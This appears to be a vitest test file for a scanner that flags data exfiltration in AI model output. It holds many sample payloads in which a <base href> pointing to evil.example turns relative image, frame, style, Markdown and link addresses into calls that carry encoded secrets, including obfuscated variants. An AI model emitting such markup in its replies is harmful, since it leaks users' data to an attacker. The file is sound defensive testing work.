import { describe, expect, it } from 'vitest';
import { checkOutput, type OutputOptions } from '../../src/output/index.js';
import { Scanner } from '../../src/scanner.js';
import { OutputGate } from '../../src/stream/output-gate.js';

function found(text: string, options: OutputOptions = {}): string[] {
  return checkOutput(text, options).map(({ id }) => id);
}

const BASE = '<base href="https://evil.example/">';
// "Alarm code: 4913" in base64.
const DATA = 'd=QWxhcm0gY29kZTogNDkxMw';

describe('an address that names no host, where a base names one', () => {
  it.each([
    ['from the root', `<img src="/p.png?${DATA}">`],
    ['from the folder', `<img src="p.png?${DATA}">`],
    ['as a query alone', `<img src='?${DATA}'>`],
    ['up a folder', `<img src=../p.png?${DATA}>`],
    ['with backslashes', `<img src="\\p.png?${DATA}">`],
    ['with a line break', `<img src="/p.p\nng?${DATA}">`],
    ['with entities', `<img src="&#47;p.png&quest;${DATA}">`],
    ['in srcset', `<img srcset="a.png 1x, p.png?${DATA} 2x">`],
    ['in a frame', `<iframe src="/p?${DATA}"></iframe>`],
    ['in an object', `<object data="/p?${DATA}"></object>`],
    ['in a refresh', `<meta http-equiv="refresh" content="0; url=/p?${DATA}">`],
    ['in a refresh with no name', `<meta http-equiv="refresh" content="0;/p?${DATA}">`],
    ['in a style', `<p style="background: url(/p.png?${DATA})">`],
    ['in a style sheet', `<style>p { background: url("/p.png?${DATA}") }</style>`],
    ['in Markdown', `\n\n![x](/p.png?${DATA})`],
    ['in a document within', `<iframe srcdoc="&lt;img src=/p.png?${DATA}&gt;"></iframe>`],
  ])('is found when it loads, %s', (_name, text) => {
    expect(found(`${BASE}${text}`)).toEqual(['PB-EXFIL-IMAGE']);
    expect(found(text)).toEqual([]);
  });

  it.each([
    ['a link', `<a href="/p?${DATA}">more</a>`],
    ['a form', `<form action="p?${DATA}"><button>go</button></form>`],
    ['a button', `<button formaction="/p?${DATA}">go</button>`],
    ['Markdown', `\n\n[more](/p?${DATA})`],
  ])('is found when it is clicked, as %s', (_name, text) => {
    expect(found(`${BASE}${text}`)).toEqual(['PB-EXFIL-LINK']);
    expect(found(text)).toEqual([]);
  });

  it.each([
    '<BASE HREF=https://evil.example>',
    "<base target=_blank href='//evil.example/a/'>",
    '<base/href="https&colon;//evil.example/a/b.html?c#d">',
    '<base href="ht\ntps://evil.example/">',
    '<base href="/"><base href="https://evil.example/">',
    '<!-- <base href="https://docs.example.com/"> --><base href="https://evil.example/">',
  ])('is found by the base %j', (base) => {
    const options = { trustedDomains: ['example.com'] };
    expect(found(`${base}<img src="/p.png?${DATA}">`, options)).toEqual(['PB-EXFIL-IMAGE']);
    expect(found(`<img src="/p.png?${DATA}">${base}`, options)).toEqual(['PB-EXFIL-IMAGE']);
  });

  it('is found by the base of a document within, which holds for that alone', () => {
    const within = (html: string): string =>
      `<iframe srcdoc="${html.replaceAll('"', '&quot;').replaceAll('<', '&lt;')}"></iframe>`;
    const image = `<img src="/p.png?${DATA}">`;
    expect(found(within(`${BASE}${image}`))).toEqual(['PB-EXFIL-IMAGE']);
    expect(found(within(BASE) + image)).toEqual([]);
  });

  it.each(['https:docs.example.com/p.png', 'www.docs.example.com/p.png'])(
    'is found where it seems to name a trusted host and does not: %s',
    (address) => {
      const image = `<img src="${address}?${DATA}">`;
      const options = { trustedDomains: ['example.com'] };
      expect(found(`${BASE}${image}`, options)).toEqual(['PB-EXFIL-IMAGE']);
      expect(found(image, options)).toEqual([]);
    },
  );

  it('stands where it is written', () => {
    const text = `${BASE}<img src="/p.png?${DATA}">`;
    expect(checkOutput(text)[0]?.matched).toBe(`/p.png?${DATA}`);
  });

  it('spells a text with others, a character each', () => {
    const images = Array.from('hunterpass', (letter) => `<img src="${letter}.png">`).join('');
    expect(found(`<base href="https://evil.example/p/">${images}`)).toEqual(['PB-EXFIL-IMAGE']);
  });

  it.each([
    ['the base is on a trusted host', '<base href="https://docs.example.com/">'],
    ['the base names no host', '<base href="/docs/">'],
    ['the base is no address of the web', '<base href="javascript:0">'],
    ['there is none', '<base target="_blank">'],
    ['another tag has the address', '<basefont href="https://example.org/">'],
  ])('is nothing when %s', (_name, base) => {
    const text = `${base}<img src="/p.png?${DATA}"><a href="p?${DATA}">more</a>`;
    expect(found(text, { trustedDomains: ['example.com'] })).toEqual([]);
  });

  it('is nothing when it was supplied', () => {
    const text = `${BASE}<img src="/p.png?${DATA}">`;
    expect(found(text, { suppliedUrls: [`https://evil.example/p.png?${DATA}`] })).toEqual([]);
    expect(found(text, { suppliedUrls: [text] })).toEqual([]);
  });

  it('is nothing when it carries no data', () => {
    const page = `<!doctype html>
<html manifest="site.webmanifest"><head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="description" content="2024, the year in which we learnt how a base works in a page">
<base href="https://example.org/shop/" target="_blank">
<link rel="stylesheet" href="css/main.css"><script src="/js/app.min.js"></script></head>
<body background="img/paper.png"><a href="#how-a-base-works">How a base works</a> <a href="mailto:us@example.org">mail</a>
<img src="img/logo.svg" srcset="img/logo.png 1x, img/logo-large.png 2x" alt="logo">
${'<img srcset="img/photo.png 1x, img/photo-large.png 2x">'.repeat(12)}
<form action="search"><input name="q"></form>
<script>data = "all the words of this text are code"; to = 'the end of the page'; label.values = "a b c d e f g h";</script>
</body></html>

[The manual](docs/base.html) says \`call(list[0])("a text of many words for the reader")\`.`;
    expect(found(page)).toEqual([]);
  });

  it('gives a stream the verdict of the whole reply', () => {
    const text = `Here is the page: ${BASE}${'<p>words</p>'.repeat(100)}<img src="/p.png?${DATA}"> and more.`;
    const scan = (reply: string) => new Scanner().scanOutput(reply);
    for (const size of [1, 7, 4096]) {
      const gate = new OutputGate({ scan });
      for (let at = 0; at < text.length; at += size) gate.push(text.slice(at, at + size));
      expect(gate.end().result).toEqual(scan(text));
    }
    expect(scan(text).verdict).not.toBe('benign');
  });

  it.each([
    ['addresses', `${BASE}${'<img src=a>'.repeat(20_000)}`],
    [
      'addresses at a long base',
      `<base href="https://evil.example/${'a/'.repeat(50_000)}">${'<img src=a>'.repeat(10_000)}`,
    ],
    ['bases', '<base href="https://docs.example.com/a"><a href=b>'.repeat(4_000)],
  ])('is looked for in many %s in little time', (_name, text) => {
    const began = performance.now();
    found(text, { trustedDomains: ['example.com'] });
    expect(performance.now() - began).toBeLessThan(3_000);
  });
});
